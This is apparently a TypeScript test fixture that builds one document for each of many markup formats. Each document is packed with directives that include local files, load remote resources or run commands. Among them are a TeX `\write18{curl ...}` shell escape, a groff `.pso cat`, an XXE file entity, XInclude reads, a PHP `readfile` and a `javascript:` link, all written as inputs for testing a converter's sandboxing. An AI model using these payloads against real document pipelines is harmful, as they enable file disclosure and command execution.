import type { FormatId } from "../../../../functions/domain/formats/formats.ts";

/** Everything external that a text can refer to. */
export interface MarkupPlaces {
  /** Paths of a text and of a picture. */
  readonly file: string;
  readonly picture: string;
  /** An address on the network. */
  readonly place: string;
}

/** Documents by format, each of which refers to the targets in all its ways. */
export const markupAttacks = ({ file, picture, place }: MarkupPlaces): Partial<Record<FormatId, string>> => ({
  rst: `Title
=====

.. include:: ${file}

.. include:: ${file}
   :literal:

.. csv-table:: Table
   :file: ${file}

.. csv-table:: Table
   :header-rows: 1
   :url: ${place}/table.csv

.. raw:: html
   :file: ${file}

.. raw:: latex
   :url: ${place}/raw.tex

.. raw:: html

   <img src="file://${picture}"><iframe src="${place}/frame"></iframe>

.. literalinclude:: ${file}

.. image:: ${picture}

.. figure:: file://${picture}

.. image:: ${place}/picture.png

Words that stay.
`,
  asciidoc: `= Title
:allow-uri-read:
:data-uri:
:docinfo: shared
:docinfodir: /
:stylesheet: ${file}
:source-highlighter: highlight.js
:highlightjsdir: ${place}
:imagesdir: ${place}

include::${file}[]

include::${place}/text.adoc[]

----
include::${file}[]
----

[csv,file="${file}"]
,===
include::${file}[]
,===

image::${picture}[]

image::file://${picture}[]

image:${place}/picture.png[] image:{docdir}${picture}[]

video::${place}/film.mp4[]

++++
<imagedata fileref="file://${picture}"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>
++++

Words that stay.
`,
  tex: `\\documentclass{article}
\\usepackage{${file}}
\\title{A \\input{${file}}}
\\begin{document}
\\maketitle
\\input{${file}} \\include{${file}} \\subfile{${file}} \\lstinputlisting{${file}} \\verbatiminput{${file}}
\\inputminted{text}{${file}} \\import{/}{${file}} \\bibliography{${file}}
\\includegraphics{${picture}} \\includegraphics{${place}/picture.png}
\\write18{curl ${place}/shell}
\\csname input\\endcsname{${file}}
\\begin{filecontents}{out.tex}x\\end{filecontents}

Words that stay.
\\end{document}
`,
  org: `#+TITLE: Title
#+INCLUDE: "${file}"
#+INCLUDE: "${file}" src text
#+SETUPFILE: ${file}
#+BIBLIOGRAPHY: ${file}
#+begin_export html
<img src="file://${picture}">
#+end_export

[[file:${picture}]] [[${picture}]] [[${place}/picture.png]]

Words that stay.
`,
  md: `---
title: Title
css: ${file}
header-includes: |
  \\input{${file}}
include-before-body: ${file}
include-in-header: [${file}]
cover-image: ${picture}
epub-cover-image: ${picture}
bibliography: ${file}
csl: ${place}/style.csl
template: ${file}
reference-doc: ${file}
abstract-title: ${file}
author: ["![a](${picture})"]
abstract: |
  ![a](${picture})
  ![b](file://${picture})
---

![one](${picture}) ![two](file://${picture}) ![three](${place}/picture.png)

<img src="${picture}"> <img src="file://${picture}" srcset="${place}/set.png 2x">
<iframe src="${place}/frame"></iframe><object data="${place}/object"></object>

<link rel="stylesheet" href="${place}/style.css"><script src="${place}/script.js"></script>

<table background="${place}/paper.png"><tr><td><img src="${place}/cell.png"></td></tr></table>

\\input{${file}}

\`\`\`{=openxml}
<w:p><w:r><w:t>raw</w:t></w:r></w:p>
\`\`\`

[link](file://${file}) [run](javascript:alert(1)) [@${file}]

Words that stay.
`,
  html: `<html><head><title>Title</title><base href="${place}/"><link rel="stylesheet" href="${place}/style.css">
<meta name="css" content="${file}"><style>@import "${place}/import.css"; p { background: url("${place}/paper.png") }</style></head>
<body><iframe src="file://${file}"></iframe><iframe src="${place}/frame"></iframe><embed src="${place}/embed">
<img src="file://${picture}"><img src="${picture}"><img src="${place}/picture.png"><img src="data:text/plain,x">
<svg><image href="${place}/svg.png"/></svg><object data="file://${file}"></object><video poster="${place}/poster.png" src="${place}/film.mp4"></video>
<p>Words that stay.</p></body></html>`,
  mediawiki: `= Title =

[[File:${picture}]] [[Image:file://${picture}|thumb]] [[File:${place}/picture.png]] {{:${file}}} {{#include:${file}}}
<img src="${place}/picture.png"> <gallery>${picture}</gallery>

Words that stay.
`,
  dokuwiki: `====== Title ======

{{${picture}}} {{file://${picture}?200}} {{${place}/picture.png}} {{rss>${place}/feed}} <file>${file}</file>

<html><img src="${place}/raw.png"></html> <php>readfile("${file}");</php>

Words that stay.
`,
  textile: `h1. Title

!${picture}! !file://${picture}! !${place}/picture.png!

<iframe src="${place}/frame"></iframe> <img src="file://${picture}">

Words that stay.
`,
  ipynb: JSON.stringify({
    cells: [
      {
        cell_type: "markdown",
        metadata: {},
        source: [
          `# Title\n\n![a](${picture}) ![b](${place}/picture.png) ![c](attachment:missing.png)\n\n`,
          `<img src="${place}/x.png">\n\n`,
          "Words that stay.\n",
        ],
        attachments: { [picture]: { "image/png": "bm8gcGljdHVyZQ==" } },
      },
      {
        cell_type: "code",
        execution_count: 1,
        metadata: {},
        source: ["1"],
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { "text/html": [`<img src="file://${picture}"><script src="${place}/s.js"></script>`] },
          },
          { output_type: "display_data", metadata: {}, data: { "text/markdown": [`![m](${picture})`] } },
          { output_type: "display_data", metadata: {}, data: { "text/latex": [`\\input{${file}}`] } },
        ],
      },
      { cell_type: "raw", metadata: { format: "text/html" }, source: [`<img src="${place}/raw.png">`] },
    ],
    metadata: { css: file, bibliography: file, "header-includes": file },
    nbformat: 4,
    nbformat_minor: 4,
  }),
  jats: `<?xml version="1.0"?>
<!DOCTYPE article PUBLIC "-//NLM//DTD JATS v1.2//EN" "${place}/jats.dtd" [<!ENTITY secret SYSTEM "file://${file}">]>
<article xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" article-type="other"><front><article-meta><title-group><article-title>Title</article-title></title-group></article-meta></front>
<body><xi:include href="file://${file}" parse="text"/><p><graphic xlink:href="${picture}"/><inline-graphic xlink:href="${place}/picture.png"/></p><p>Words that stay.</p></body></article>`,
  docbook: `<?xml version="1.0"?>
<article xmlns="http://docbook.org/ns/docbook" xmlns:xi="http://www.w3.org/2001/XInclude"><title>Title</title>
<xi:include href="file://${file}" parse="text"/><xi:include href="${place}/part.xml"/>
<para><inlinemediaobject><imageobject><imagedata fileref="${picture}"/></imageobject></inlinemediaobject></para>
<programlisting><textobject><textdata fileref="${file}"/></textobject></programlisting><para>Words that stay.</para></article>`,
  opml: `<?xml version="1.0"?><opml version="2.0"><head><title>Title</title></head><body>
<outline text="Words that stay." _note="![a](${picture}) ![b](${place}/picture.png) &lt;img src='file://${picture}'&gt;"/>
<outline type="include" url="${place}/other.opml" text="x"/></body></opml>`,
  man: `.TH TITLE 1
.so ${file}
.mso ${file}
.PSPIC ${picture}
.pso cat ${file}
.SH NAME
Words that stay.
`,
});
